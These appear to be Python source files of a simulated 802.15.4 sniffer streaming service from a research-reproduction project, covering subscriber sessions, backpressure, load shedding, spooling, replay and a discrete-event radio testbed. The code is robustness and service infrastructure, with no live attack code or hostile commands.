        self._session_ids = itertools.count(1)
        self._publish_lock = threading.Lock()
        self.frames_published = 0
        self.records_published = 0
        self.ladder = DegradeLadder(
            shed_trace_at=config.shed_trace_at,
            shed_corrupt_at=config.shed_corrupt_at,
            downsample_at=config.downsample_at,
            hysteresis=config.shed_hysteresis,
            keep_every=config.downsample_keep_every,
        )
        self.service_plan = (
            named_service_profile(config.service_chaos, seed=config.seed)
            if config.service_chaos is not None
            else None
        )
        self.spool: Optional[SpoolWriter] = None
        if config.replay_path is not None:
            self.source = SpoolReplaySource(
                config.replay_path, self.publish, rate_fps=config.rate_fps
            )
        else:
            self.source = SimWorldSource(
                config, self.publish, service_plan=self.service_plan
            )
        self.supervisor = Supervisor(
            self.stop_event,
            max_restarts=config.max_stage_restarts,
            backoff_s=config.restart_backoff_s,
            backoff_cap_s=config.restart_backoff_cap_s,
            on_fatal=self._on_fatal,
        )
        self._listener: Optional[socket.socket] = None

    # -- lifecycle ----------------------------------------------------------
    def start(self) -> None:
        """Open the spool and socket, then spawn the supervised stages."""
        config = self.config
        if config.spool_path is not None and config.replay_path is None:
            self.spool = SpoolWriter(
                config.spool_path,
                meta={
                    "channel": config.channel,
                    "seed": config.seed,
                    "chaos": config.chaos,
                },
            )
        if config.socket_path is not None:
            self._open_listener(config.socket_path)
            self.supervisor.spawn("accept", self._accept_loop)
        self.supervisor.spawn("world", self.source.run)
        self.supervisor.spawn(
            "monitor",
            lambda stop: monitor_sessions(
                self.open_sessions,
                stop,
                stall_timeout_s=config.stall_timeout_s,
                idle_timeout_s=config.idle_timeout_s,
            ),
        )

    @property
    def source_finished(self) -> bool:
        """True once the world stage ended (budget spent or gave up)."""
        stage = self.supervisor.stages.get("world")
        return stage is not None and not stage.alive

    def request_shutdown(self) -> None:
        """Signal-handler-safe: ask every stage to stop."""
        self.stop_event.set()

    def _on_fatal(self, stage: str, _exc: BaseException) -> None:
        # A stage spent its restart budget: fail fast and loudly rather
        # than serving a half-dead pipeline.
        self.failed_stage = stage
        self.registry.counter("serve.stage.fatal_shutdowns").inc()
        self.request_shutdown()

    def shutdown(self, drain: bool = True) -> Dict[str, Any]:
        """Stop producing, flush every subscriber, finalise the spool.

        The clean-SIGTERM path: with *drain* each session's queued
        records are delivered before its ``bye``; without it queued
        records land on the drop ledger instead.  Returns the final
        ledger.  Idempotent.
        """
        self.request_shutdown()
        self.supervisor.join_all(self.config.drain_timeout_s)
        sessions = self.open_sessions()
        if drain:
            note = notice_record("drain", produced=self.frames_published)
            for session in sessions:
                try:
                    session.offer(note)
                except SessionOverflow:
                    pass
            for session in sessions:
                session.drain(self.config.drain_timeout_s)
        else:
            for session in sessions:
                session.close("shutdown")
        if self.spool is not None:
            self.spool.close()
        if self._listener is not None:
            try:
                self._listener.close()
            except OSError:
                pass
            if self.config.socket_path and os.path.exists(self.config.socket_path):
                os.unlink(self.config.socket_path)
        self.drained.set()
        return self.ledger()

    # -- broadcast ----------------------------------------------------------
    def publish(self, record: Dict[str, Any]) -> None:
        """The single broadcast path every produced record flows through."""
        with self._publish_lock:
            is_frame = record.get("type") == "frame"
            if is_frame:
                self.frames_published += 1
                self.registry.counter("serve.frames.produced").inc()
                if self.spool is not None:
                    self.spool.append(record)
            self.records_published += 1
            sessions = self.open_sessions()
            pressure = max(
                (s.ring.fill_fraction for s in sessions), default=0.0
            )
            change = self.ladder.update(pressure)
            if change is not None:
                self._announce_shed_level(change, pressure, sessions)
            admitted, shed_class = self.ladder.admit(record)
            if not admitted:
                self.registry.counter(f"serve.shed.{shed_class}").inc()
                if is_frame:
                    for session in sessions:
                        session.frames_shed += 1
                return
            for session in sessions:
                self._offer_or_disconnect(session, record)

    def _offer_or_disconnect(self, session, record) -> None:
        """Offer under the session's policy; a timed-out ``block``
        admission means the subscriber is stalled — disconnect it."""
        try:
            session.offer(record)
        except SessionOverflow:
            self.registry.counter("serve.sessions.overflow").inc()
            self._emit_session_event(session, "overflow")
            session.close("stalled")

    def _announce_shed_level(
        self, level: int, pressure: float, sessions: List[SubscriberSession]
    ) -> None:
        name = SHED_LEVEL_NAMES[level]
        self.registry.counter("serve.shed.transitions").inc()
        self.registry.gauge("serve.shed.level").set(level)
        if self.bus.active:
            self.bus.emit(
                SERVE_SHED, level=level, shedding=name, pressure=round(pressure, 4)
            )
        note = notice_record(
            "shed-level", level=level, shedding=name, pressure=round(pressure, 4)
        )
        for session in sessions:
            self._offer_or_disconnect(session, note)

    # -- sessions -----------------------------------------------------------
    def open_sessions(self) -> List[SubscriberSession]:
        with self._sessions_lock:
            return [s for s in self._sessions if not s.closed]

    def all_sessions(self) -> List[SubscriberSession]:
        with self._sessions_lock:
            return list(self._sessions)

    def attach_session(
        self,
        sink: Sink,
        fmt: str = "jsonl",
        policy: Optional[str] = None,
        name: Optional[str] = None,
    ) -> SubscriberSession:
        """Create and start a subscriber on an arbitrary sink.

        The in-process subscription path: tests and embedded consumers
        (the live-sniffer example) use it directly; the socket handshake
        is a thin wrapper around it.
        """
        config = self.config
        index = next(self._session_ids)
        if self.service_plan is not None and self.service_plan.wants_sink_faults(
            index
        ):
            sink = ChaoticSink(sink, self.service_plan)
        session = SubscriberSession(
            name=name or f"sub-{index}",
            sink=sink,
            fmt=fmt,
            policy=policy or config.default_policy,
            queue_depth=config.queue_depth,
            heartbeat_s=config.heartbeat_s,
            stall_timeout_s=config.stall_timeout_s,
            on_closed=self._session_closed,
        )
        with self._sessions_lock:
            self._sessions.append(session)
        self.registry.counter("serve.sessions.connected").inc()
        self._emit_session_event(session, "connected")
        session.start()
        return session

    def _session_closed(self, session: SubscriberSession, reason: str) -> None:
        self.registry.counter("serve.sessions.closed").inc()
        self._emit_session_event(session, "closed", reason=reason)

    def _emit_session_event(
        self, session: SubscriberSession, outcome: str, **fields
    ) -> None:
        if self.bus.active:
            self.bus.emit(
                SERVE_SESSION,
                session=session.name,
                policy=session.policy,
                outcome=outcome,
                **fields,
            )

    # -- socket transport ---------------------------------------------------
    def _open_listener(self, path: str) -> None:
        if os.path.exists(path):
            os.unlink(path)
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(path)
        listener.listen(16)
        listener.settimeout(0.2)
        self._listener = listener

    def _accept_loop(self, stop_event: threading.Event) -> None:
        listener = self._listener
        if listener is None:  # pragma: no cover - start() opens it
            return
        while not stop_event.is_set():
            try:
                conn, _addr = listener.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                self._handshake(conn)
            except (OSError, ValueError, json.JSONDecodeError) as exc:
                self.registry.counter("serve.sessions.bad_handshake").inc()
                try:
                    conn.close()
                except OSError:
                    pass
                # A malformed hello is the client's problem, not a stage
                # crash — log to the bus and keep accepting.
                if self.bus.active:
                    self.bus.emit(
                        SERVE_SESSION,
                        session="?",
                        policy="?",
                        outcome="bad-handshake",
                        error=f"{type(exc).__name__}: {exc}",
                    )

    def _handshake(self, conn: socket.socket) -> None:
        """Read one hello line: ``{"format": ..., "policy": ..., "name"}``."""
        conn.settimeout(2.0)
        chunks = bytearray()
        while not chunks.endswith(b"\n"):
            chunk = conn.recv(256)
            if not chunk:
                raise ValueError("client closed before hello")
            chunks.extend(chunk)
            if len(chunks) > 4096:
                raise ValueError("oversized hello")
        hello = json.loads(chunks.decode("utf-8"))
        self.attach_session(
            SocketSink(conn, send_timeout_s=self.config.send_timeout_s),
            fmt=hello.get("format", "jsonl"),
            policy=hello.get("policy"),
            name=hello.get("name"),
        )

    # -- ledger -------------------------------------------------------------
    def ledger(self) -> Dict[str, Any]:
        """The reconciliation the robustness tests (and ops) read."""
        sessions: Dict[str, Dict[str, Any]] = {}
        for session in self.all_sessions():
            entry = session.ledger()
            entry["shed"] = session.frames_shed
            entry["policy"] = session.policy
            entry["close_reason"] = session.close_reason
            sessions[session.name] = entry
        return {
            "produced": self.frames_published,
            "records_published": self.records_published,
            "shed": dict(self.ladder.shed),
            "shed_level": self.ladder.level,
            "spooled": self.spool.records_written if self.spool else 0,
            "stages": self.supervisor.stats(),
            "sessions": sessions,
        }
