"""Subscriber sessions: one bounded ring + one writer thread per client.

A session connects three things: the broadcast stage (which *offers*
records under the session's backpressure policy), the bounded ring, and
a byte sink (socket, file, or an in-process test sink).  The writer
thread drains the ring at the sink's pace; a slow sink therefore fills
the ring, and the policy decides what gives — the producer (``block``),
the oldest queued record (``drop-oldest``) or the session itself
(``disconnect-slow``).

The ledger invariant the service's tests reconcile::

    offered == delivered + shed_by_policy(dropped) + in_flight

holds per session at any quiescent point, and after ``close`` with
``in_flight == 0``.
"""

from __future__ import annotations

import socket
import threading
import time as _time
from typing import Any, Callable, Dict, IO, Optional

from repro.errors import SessionOverflow
from repro.serve.codec import (
    bye_record,
    encode_jsonl,
    encode_pcap_record,
    heartbeat_record,
    pcap_global_header,
)
from repro.serve.config import BACKPRESSURE_POLICIES
from repro.serve.ring import BoundedRing

__all__ = [
    "Sink",
    "SocketSink",
    "StreamSink",
    "CollectingSink",
    "SubscriberSession",
]


class Sink:
    """Minimal byte-sink protocol the session writes through."""

    def write(self, data: bytes) -> None:  # pragma: no cover - interface
        raise NotImplementedError

    def close(self) -> None:  # pragma: no cover - interface
        raise NotImplementedError


class SocketSink(Sink):
    """A connected socket with a bounded per-send timeout.

    A send that cannot complete within *send_timeout_s* (client stopped
    reading and its kernel buffer is full) raises ``socket.timeout`` —
    surfaced to the writer loop as a stall.
    """

    def __init__(self, conn: socket.socket, send_timeout_s: float = 2.0):
        self._conn = conn
        conn.settimeout(send_timeout_s)

    def write(self, data: bytes) -> None:
        self._conn.sendall(data)

    def close(self) -> None:
        try:
            self._conn.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._conn.close()


class StreamSink(Sink):
    """Write records to any binary file object (FIFO, file, stdout)."""

    def __init__(self, stream: IO[bytes], owns: bool = False):
        self._stream = stream
        self._owns = owns

    def write(self, data: bytes) -> None:
        self._stream.write(data)
        self._stream.flush()

    def close(self) -> None:
        if self._owns:
            self._stream.close()


class CollectingSink(Sink):
    """In-process sink for tests: buffers bytes, optionally throttled.

    *delay_per_write_s* simulates a slow consumer; *fail_after* raises
    ``OSError`` on the Nth write (socket-error chaos); *stall_event*,
    when set, blocks writes until cleared (stalled-subscriber chaos).
    """

    def __init__(
        self,
        delay_per_write_s: float = 0.0,
        fail_after: Optional[int] = None,
        stall_event: Optional[threading.Event] = None,
    ):
        self.data = bytearray()
        self.writes = 0
        self.closed = False
        self.delay_per_write_s = delay_per_write_s
        self.fail_after = fail_after
        self.stall_event = stall_event
        self._lock = threading.Lock()

    def write(self, data: bytes) -> None:
        if self.stall_event is not None:
            # Block while the stall is active (the chaos controller
            # clears the event to release the subscriber).
            while self.stall_event.is_set():
                _time.sleep(0.005)
        if self.delay_per_write_s:
            _time.sleep(self.delay_per_write_s)
        with self._lock:
            self.writes += 1
            if self.fail_after is not None and self.writes > self.fail_after:
                raise OSError("injected sink failure")
            self.data.extend(data)

    def close(self) -> None:
        self.closed = True

    def lines(self) -> list:
        with self._lock:
            return [line for line in bytes(self.data).split(b"\n") if line]


class SubscriberSession:
    """One subscriber: ring, policy, codec, writer thread, ledger."""

    def __init__(
        self,
        name: str,
        sink: Sink,
        fmt: str = "jsonl",
        policy: str = "drop-oldest",
        queue_depth: int = 256,
        heartbeat_s: float = 0.5,
        stall_timeout_s: float = 2.0,
        on_closed: Optional[Callable[["SubscriberSession", str], None]] = None,
    ):
        if fmt not in ("jsonl", "pcap"):
            raise ValueError(f"unknown stream format {fmt!r}")
        if policy not in BACKPRESSURE_POLICIES:
            raise ValueError(f"unknown backpressure policy {policy!r}")
        self.name = name
        self.sink = sink
        self.fmt = fmt
        self.policy = policy
        self.ring = BoundedRing(queue_depth)
        self.heartbeat_s = heartbeat_s
        self.stall_timeout_s = stall_timeout_s
        self._on_closed = on_closed
        # Ledger (offered/delivered/dropped count *frame* records; the
        # control plane is accounted separately).
        self.frames_offered = 0
        self.frames_delivered = 0
        self.frames_dropped = 0
        #: Frames the shed ladder kept from this session (set by the
        #: server's broadcast stage; part of the per-session ledger).
        self.frames_shed = 0
        self.records_delivered = 0
        self.heartbeats_sent = 0
        self.close_reason: Optional[str] = None
        self.last_progress = _time.monotonic()
        #: The record popped but not yet written — if the write fails,
        #: ``_finish`` moves it onto the drop ledger so no frame is ever
        #: lost between the ring and the sink unaccounted.
        self._in_hand: Optional[Dict[str, Any]] = None
        self._closed = threading.Event()
        self._finished = False
        self._draining = threading.Event()
        self._disconnect_requested: Optional[str] = None
        self._lock = threading.Lock()
        self._writer = threading.Thread(
            target=self._writer_loop, name=f"serve-writer-{name}", daemon=True
        )

    # -- lifecycle ----------------------------------------------------------
    def start(self) -> None:
        if self.fmt == "pcap":
            # The global header precedes any record; written from the
            # caller's thread so subscribers can parse immediately.
            self.sink.write(pcap_global_header())
        self._writer.start()

    @property
    def closed(self) -> bool:
        return self._closed.is_set()

    def request_disconnect(self, reason: str) -> None:
        """Ask the writer loop to close this session (thread-safe)."""
        with self._lock:
            if self._disconnect_requested is None:
                self._disconnect_requested = reason

    # -- producer side ------------------------------------------------------
    def offer(self, record: Dict[str, Any]) -> bool:
        """Queue one record under this session's backpressure policy.

        Returns True when the record was admitted to the ring.  Raises
        :class:`SessionOverflow` for a timed-out ``block`` admission —
        the caller (broadcast stage) converts that into a disconnect.
        """
        if self.closed or self._disconnect_requested is not None:
            return False
        is_frame = record.get("type") == "frame"
        if is_frame:
            self.frames_offered += 1
        if self.policy == "block":
            if not self.ring.push_wait(record, self.stall_timeout_s):
                if is_frame:
                    self.frames_dropped += 1
                raise SessionOverflow(
                    self.name, self.ring.capacity, self.stall_timeout_s
                )
            return True
        if self.policy == "drop-oldest":
            victim = self.ring.push_evict(record)
            if victim is not None and victim.get("type") == "frame":
                self.frames_dropped += 1
            return True
        # disconnect-slow
        if not self.ring.try_push(record):
            if is_frame:
                self.frames_dropped += 1
            self.request_disconnect("disconnect-slow")
            return False
        return True

    # -- writer loop --------------------------------------------------------
    def _encode(self, record: Dict[str, Any]) -> bytes:
        if self.fmt == "pcap":
            return encode_pcap_record(record)
        return encode_jsonl(record)

    def _writer_loop(self) -> None:
        reason = "closed"
        try:
            while True:
                with self._lock:
                    requested = self._disconnect_requested
                if requested is not None and len(self.ring) == 0:
                    reason = requested
                    break
                record = self.ring.pop(timeout_s=self.heartbeat_s)
                if record is None:
                    if self._draining.is_set():
                        reason = "drained"
                        break
                    if requested is not None:
                        reason = requested
                        break
                    if self.fmt == "jsonl":
                        beat = heartbeat_record(
                            _time.monotonic(), self.records_delivered
                        )
                        self.sink.write(self._encode(beat))
                        self.heartbeats_sent += 1
                    continue
                if record.get("type") == "__bye__":
                    reason = record.get("reason", "bye")
                    break
                self._in_hand = record
                data = self._encode(record)
                if data:
                    self.sink.write(data)
                self._in_hand = None
                self.records_delivered += 1
                if record.get("type") == "frame":
                    self.frames_delivered += 1
                self.last_progress = _time.monotonic()
        except (OSError, socket.timeout) as exc:
            reason = f"socket-error:{type(exc).__name__}"
        except Exception as exc:  # pragma: no cover - defensive
            reason = f"writer-crash:{type(exc).__name__}"
        finally:
            self._finish(reason)

    def _finish(self, reason: str) -> None:
        with self._lock:
            if self._finished:
                return
            self._finished = True
        self.close_reason = reason
        # A record that left the ring but never survived its write is a
        # drop, same as anything still queued: the ledger stays exact.
        in_hand, self._in_hand = self._in_hand, None
        if in_hand is not None and in_hand.get("type") == "frame":
            self.frames_dropped += 1
        # Anything still queued was never delivered: it lands on the
        # drop ledger so offered == delivered + dropped after close.
        for record in self.ring.drain():
            if record.get("type") == "frame":
                self.frames_dropped += 1
        if self.fmt == "jsonl":
            try:
                self.sink.write(
                    self._encode(
                        bye_record(
                            reason,
                            frames_delivered=self.frames_delivered,
                            frames_dropped=self.frames_dropped,
                        )
                    )
                )
            except (OSError, socket.timeout):
                pass
        try:
            self.sink.close()
        except OSError:
            pass
        self._closed.set()
        if self._on_closed is not None:
            self._on_closed(self, reason)

    # -- drain / close ------------------------------------------------------
    def drain(self, timeout_s: float) -> bool:
        """Deliver everything queued, then close with reason "drained".

        Returns True when the ring emptied within *timeout_s*.
        """
        self._draining.set()
        deadline = _time.monotonic() + timeout_s
        while len(self.ring) > 0 and _time.monotonic() < deadline:
            _time.sleep(0.01)
        emptied = len(self.ring) == 0
        self._push_sentinel("drained")
        self._writer.join(timeout=timeout_s)
        if not self._closed.is_set():
            self._finish("drain-timeout")
        return emptied

    def _push_sentinel(self, reason: str) -> None:
        victim = self.ring.push_evict({"type": "__bye__", "reason": reason})
        if victim is not None and victim.get("type") == "frame":
            self.frames_dropped += 1

    def close(self, reason: str = "closed", timeout_s: float = 2.0) -> None:
        """Close without waiting for queued records (queued → dropped)."""
        self.request_disconnect(reason)
        # Wake the writer promptly if it is waiting on an empty ring.
        self._push_sentinel(reason)
        self._writer.join(timeout=timeout_s)
        if not self._closed.is_set():
            self._finish(reason)

    # -- ledger -------------------------------------------------------------
    def ledger(self) -> Dict[str, int]:
        return {
            "offered": self.frames_offered,
            "delivered": self.frames_delivered,
            "dropped": self.frames_dropped,
            "in_flight": sum(
                1
                for r in self.ring.snapshot()
                if isinstance(r, dict) and r.get("type") == "frame"
            ),
        }
