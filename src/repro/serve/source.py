"""Frame sources: the continuously-driven radio world, and spool replay.

:class:`SimWorldSource` is the live producer.  It stands up the paper's
bench (testbed + reference 802.15.4 transmitter + a WazaBee-diverted BLE
chip running the sniffer firmware), then drives the discrete-event
scheduler in small simulated steps, turning every decode the firmware's
raw tap sees into a ``frame`` record.  It is written to be *resumable*:
the production cursor lives on the object, so when the supervisor
restarts a crashed world stage the stream continues where it stopped —
no frame is produced twice.

:class:`SpoolReplaySource` feeds a recorded spool back through the same
``publish`` path verbatim, which is what makes ``repro serve --replay``
byte-for-byte faithful to the original run.
"""

from __future__ import annotations

import threading
import time as _time
from typing import Any, Callable, Dict, Optional

from repro.faults import ServiceFaultPlan, named_profile
from repro.obs import SERVE_SESSION, scoped
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.serve.codec import frame_record, trace_record
from repro.serve.config import ServeConfig
from repro.serve.spool import SpoolReader

__all__ = ["SimWorldSource", "SpoolReplaySource"]

Publish = Callable[[Dict[str, Any]], None]


class SimWorldSource:
    """Drive the radio bench continuously; resumable across restarts."""

    def __init__(
        self,
        config: ServeConfig,
        publish: Publish,
        service_plan: Optional[ServiceFaultPlan] = None,
    ):
        self.config = config
        self.publish = publish
        self.service_plan = service_plan
        #: Next production index — the resume cursor.  Restarts continue
        #: from here instead of replaying what was already published.
        self.next_index = 0
        self.frames_produced = 0
        self._crashes_fired: set = set()
        self._world = None

    # -- world construction -------------------------------------------------
    def _build_world(self):
        """Stand up (or re-stand) the bench; called on start and restart."""
        from repro.chips import Nrf52832, RzUsbStick
        from repro.core.firmware import WazaBeeFirmware
        from repro.experiments.environment import build_testbed

        config = self.config
        fault_plan = (
            named_profile(config.chaos, channel=config.channel, seed=config.seed)
            if config.chaos is not None
            else None
        )
        testbed = build_testbed(seed=config.seed, fault_plan=fault_plan)
        chip = Nrf52832(
            testbed.medium,
            position=testbed.attacker_position,
            rng=testbed.device_rng(1),
        )
        reference = RzUsbStick(
            testbed.medium,
            position=testbed.reference_position,
            rng=testbed.device_rng(2),
        )
        reference.set_channel(config.channel)
        firmware = WazaBeeFirmware(chip, testbed.scheduler)
        firmware.start_sniffer(
            config.channel, lambda _f, _d: None, raw_tap=self._on_decode
        )
        self._world = (testbed, reference, firmware)
        return testbed, reference, firmware

    def _on_decode(self, decoded) -> None:
        testbed, _reference, _firmware = self._world
        record = frame_record(
            seq=self.frames_produced,
            time=testbed.scheduler.now,
            channel=self.config.channel,
            psdu=decoded.psdu,
            fcs_ok=decoded.fcs_ok,
            mean_distance=decoded.mean_distance,
        )
        self.frames_produced += 1
        self.publish(record)

    # -- the supervised stage target ----------------------------------------
    def run(self, stop_event: threading.Event) -> None:
        """Produce frames until the budget is spent or shutdown is asked.

        Runs inside an observability scope of its own so the world's
        components bind the service's bus/registry pair; the world's
        trace events are forwarded to subscribers as ``trace`` records
        when the config asks for them.
        """
        config = self.config
        bus, registry = _current_bus(), _current_metrics()
        with scoped(bus, registry):
            testbed, reference, _firmware = self._build_world()
            forward = None
            if config.forward_trace:

                def forward(event) -> None:
                    # serve.* events describe the service itself; looping
                    # them back through the stream would self-amplify
                    # under load (each shed announcement a new record).
                    if not event.name.startswith("serve."):
                        self.publish(trace_record(event.as_dict()))

                bus.subscribe(forward)
            try:
                self._drive(testbed, reference, stop_event)
            finally:
                if forward is not None:
                    bus.unsubscribe(forward)

    def _drive(self, testbed, reference, stop_event: threading.Event) -> None:
        from repro.dot15d4.frames import Address, build_data

        config = self.config
        plan = self.service_plan
        registry = _current_metrics()
        produced_metric = registry.counter("serve.frames.transmitted")
        src = Address(pan_id=0x1234, address=0x0063)
        dst = Address(pan_id=0x1234, address=0x0042)
        while not stop_event.is_set():
            if config.frames and self.next_index >= config.frames:
                return
            index = self.next_index
            if plan is not None:
                # "At or past": a burst can jump the cursor over an exact
                # crash index, and the crash must still fire.
                due = [
                    c
                    for c in plan.crash_at_frames
                    if c <= index and c not in self._crashes_fired
                ]
                if due:
                    self._crashes_fired.add(due[0])
                    registry.counter("faults.service.crashes").inc()
                    raise RuntimeError(
                        f"injected world-stage crash at frame {index}"
                    )
            burst = 1
            if (
                plan is not None
                and plan.flood_every_frames
                and index > 0
                and index % plan.flood_every_frames == 0
            ):
                burst = max(1, plan.flood_factor)
                registry.counter("faults.service.floods").inc()
            # Wall-clock pacing only outside bursts: floods are the
            # "traffic arrived faster than you planned" fault.  Pace
            # *before* emitting so a subscriber that connects the moment
            # the socket appears still sees the opening frames.
            if config.rate_fps > 0 and burst == 1:
                if stop_event.wait(1.0 / config.rate_fps):
                    return
            for _ in range(burst):
                if stop_event.is_set():
                    return
                if config.frames and self.next_index >= config.frames:
                    return
                payload = b"\x10" + (self.next_index & 0xFFFF).to_bytes(2, "little")
                frame = build_data(
                    source=src,
                    destination=dst,
                    payload=payload,
                    sequence_number=self.next_index & 0xFF,
                    ack_request=False,
                )
                reference.transmit_frame(frame)
                testbed.scheduler.run(config.sim_step_s)
                produced_metric.inc()
                self.next_index += 1


class SpoolReplaySource:
    """Publish a recorded spool's records, verbatim and in order."""

    def __init__(
        self,
        path: str,
        publish: Publish,
        rate_fps: float = 0.0,
    ):
        self.reader = SpoolReader(path)
        self.publish = publish
        self.rate_fps = rate_fps
        self.next_index = 0
        self.frames_produced = 0

    def run(self, stop_event: threading.Event) -> None:
        records = list(self.reader.records())
        while self.next_index < len(records):
            if stop_event.is_set():
                return
            record = records[self.next_index]
            # Pace *before* each frame so a subscriber that connects the
            # moment the socket appears still gets record 0 — emitting
            # first would race every client out of the opening frames.
            if record.get("type") == "frame" and self.rate_fps > 0:
                if stop_event.wait(1.0 / self.rate_fps):
                    return
            self.next_index += 1
            self.publish(record)
            if record.get("type") == "frame":
                self.frames_produced += 1
