"""Graceful overload degradation: the shed ladder.

Under queue pressure the service degrades in a strict order — cheap
observability first, protocol-relevant data last:

* **level 1** — shed ``trace`` records (the obs firehose);
* **level 2** — additionally shed corrupt frames (``fcs_ok`` false);
* **level 3** — additionally downsample valid frames, delivering one in
  ``keep_every``.

The ordering is an invariant the tests pin: a valid frame is never shed
while trace records are still being delivered.  Levels step up the
moment pressure crosses a threshold and step back down only after
pressure falls below ``threshold - hysteresis``, so a ring oscillating
around a boundary does not flap announcements at subscribers.
"""

from __future__ import annotations

from typing import Any, Dict, Optional, Tuple

__all__ = ["SHED_LEVEL_NAMES", "DegradeLadder"]

#: Human-readable names, indexed by level — used in notices and metrics.
SHED_LEVEL_NAMES = ("none", "trace", "corrupt", "downsample")


class DegradeLadder:
    """Pressure-driven admission control with hysteresis.

    Not thread-safe by itself; the broadcast stage is the single caller.
    """

    def __init__(
        self,
        shed_trace_at: float = 0.50,
        shed_corrupt_at: float = 0.75,
        downsample_at: float = 0.90,
        hysteresis: float = 0.15,
        keep_every: int = 4,
    ):
        if not 0.0 < shed_trace_at <= shed_corrupt_at <= downsample_at <= 1.0:
            raise ValueError(
                "thresholds must satisfy 0 < trace <= corrupt <= downsample <= 1"
            )
        if keep_every < 1:
            raise ValueError("keep_every must be >= 1")
        self._up = (shed_trace_at, shed_corrupt_at, downsample_at)
        self.hysteresis = hysteresis
        self.keep_every = keep_every
        self.level = 0
        self._valid_counter = 0
        # Shed tallies by class, for the ledger.
        self.shed: Dict[str, int] = {"trace": 0, "corrupt": 0, "downsample": 0}

    def update(self, pressure: float) -> Optional[int]:
        """Re-evaluate the level for *pressure*; returns it when changed."""
        new_level = self.level
        # Step up through every threshold the pressure now clears.
        while new_level < 3 and pressure >= self._up[new_level]:
            new_level += 1
        # Step down only past the hysteresis band.
        while new_level > 0 and pressure < self._up[new_level - 1] - self.hysteresis:
            new_level -= 1
        if new_level == self.level:
            return None
        self.level = new_level
        return new_level

    def admit(self, record: Dict[str, Any]) -> Tuple[bool, Optional[str]]:
        """Decide one record's fate at the current level.

        Returns ``(admitted, shed_class)``; *shed_class* is ``"trace"``,
        ``"corrupt"`` or ``"downsample"`` when the record was shed.
        Control records (notices, heartbeats, byes) always pass — they
        are how degradation is announced.
        """
        kind = record.get("type")
        if kind == "trace":
            if self.level >= 1:
                self.shed["trace"] += 1
                return False, "trace"
            return True, None
        if kind != "frame":
            return True, None
        if not record.get("fcs_ok", True):
            if self.level >= 2:
                self.shed["corrupt"] += 1
                return False, "corrupt"
            return True, None
        if self.level >= 3 and self.keep_every > 1:
            self._valid_counter += 1
            if self._valid_counter % self.keep_every != 1:
                self.shed["downsample"] += 1
                return False, "downsample"
        return True, None
