"""Crash-safe frame spool: the service's durable record of what it produced.

The spool is an append-only JSONL file.  Line one is a header stamping
the format and the run's parameters; every subsequent line is one frame
record, flushed to the OS as it is written, so a SIGKILL mid-run loses at
most the partially-written final line.  A clean shutdown appends a
``spool-end`` footer with the final count; :class:`SpoolReader` treats a
missing footer (crash) and a truncated tail line as expected, and only
raises :class:`~repro.errors.SpoolError` when the header itself is
missing or foreign.

``repro serve --replay SPOOL`` feeds the recorded records back through
the service verbatim — and because records encode with sorted keys, the
replayed frame stream is byte-for-byte identical to the original.
"""

from __future__ import annotations

import json
import os
from typing import Any, Dict, Iterator, List, Optional

from repro.errors import SpoolError
from repro.serve.codec import encode_jsonl

__all__ = ["SPOOL_FORMAT", "SpoolWriter", "SpoolReader"]

SPOOL_FORMAT = "wazabee-spool/1"


class SpoolWriter:
    """Append frame records to a spool file, one flushed line each."""

    def __init__(self, path: str, meta: Optional[Dict[str, Any]] = None):
        self.path = path
        self.records_written = 0
        self._handle = open(path, "wb")
        header = {"type": "spool-header", "format": SPOOL_FORMAT}
        header.update(meta or {})
        self._handle.write(encode_jsonl(header))
        self._handle.flush()
        self._closed = False

    def append(self, record: Dict[str, Any]) -> None:
        if self._closed:
            raise SpoolError(f"spool {self.path!r} already finalised")
        self._handle.write(encode_jsonl(record))
        # Flush per record: the crash-safety contract is "everything but
        # possibly the last line survives a hard kill".
        self._handle.flush()
        self.records_written += 1

    def close(self) -> None:
        """Finalise with a footer and make the file durable."""
        if self._closed:
            return
        self._closed = True
        footer = {"type": "spool-end", "records": self.records_written}
        self._handle.write(encode_jsonl(footer))
        self._handle.flush()
        os.fsync(self._handle.fileno())
        self._handle.close()

    def abort(self) -> None:
        """Close the handle without a footer (simulated crash in tests)."""
        if not self._closed:
            self._closed = True
            self._handle.flush()
            self._handle.close()

    def __enter__(self) -> "SpoolWriter":
        return self

    def __exit__(self, *_exc) -> None:
        self.close()


class SpoolReader:
    """Load a spool file, tolerating a crash-truncated tail."""

    def __init__(self, path: str):
        self.path = path
        self.meta: Dict[str, Any] = {}
        #: True when the clean-shutdown footer was present and agreed
        #: with the record count.
        self.complete = False
        self._records: List[Dict[str, Any]] = []
        self._load()

    def _load(self) -> None:
        try:
            with open(self.path, "rb") as handle:
                lines = handle.read().split(b"\n")
        except OSError as exc:
            raise SpoolError(f"cannot read spool {self.path!r}: {exc}") from exc
        if not lines or not lines[0].strip():
            raise SpoolError(f"spool {self.path!r} is empty")
        try:
            header = json.loads(lines[0])
        except json.JSONDecodeError as exc:
            raise SpoolError(f"spool {self.path!r} has no valid header") from exc
        if (
            header.get("type") != "spool-header"
            or header.get("format") != SPOOL_FORMAT
        ):
            raise SpoolError(
                f"spool {self.path!r} is not a {SPOOL_FORMAT} file"
            )
        self.meta = {
            k: v for k, v in header.items() if k not in ("type", "format")
        }
        footer_count: Optional[int] = None
        for index, raw in enumerate(lines[1:], start=2):
            if not raw.strip():
                continue
            try:
                record = json.loads(raw)
            except json.JSONDecodeError:
                # A torn final line is the expected crash signature; a
                # torn line *followed by* valid records is corruption.
                if any(tail.strip() for tail in lines[index:]):
                    raise SpoolError(
                        f"spool {self.path!r} corrupt at line {index}"
                    ) from None
                break
            if record.get("type") == "spool-end":
                footer_count = int(record.get("records", -1))
                continue
            self._records.append(record)
        if footer_count is not None:
            if footer_count != len(self._records):
                raise SpoolError(
                    f"spool {self.path!r} footer claims {footer_count} "
                    f"records, found {len(self._records)}"
                )
            self.complete = True

    def __len__(self) -> int:
        return len(self._records)

    def records(self) -> Iterator[Dict[str, Any]]:
        """The spooled records, in production order."""
        return iter(self._records)

    def frame_records(self) -> List[Dict[str, Any]]:
        return [r for r in self._records if r.get("type") == "frame"]
