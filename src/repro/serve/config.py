"""Configuration for the streaming sniffer service (``repro serve``).

One frozen dataclass holds every tunable the daemon exposes: where the
Unix socket lives, how deep each subscriber's bounded ring is, which
backpressure policy new sessions default to, the supervision timeouts,
the overload-degradation thresholds, and the spool/replay paths.  Pure
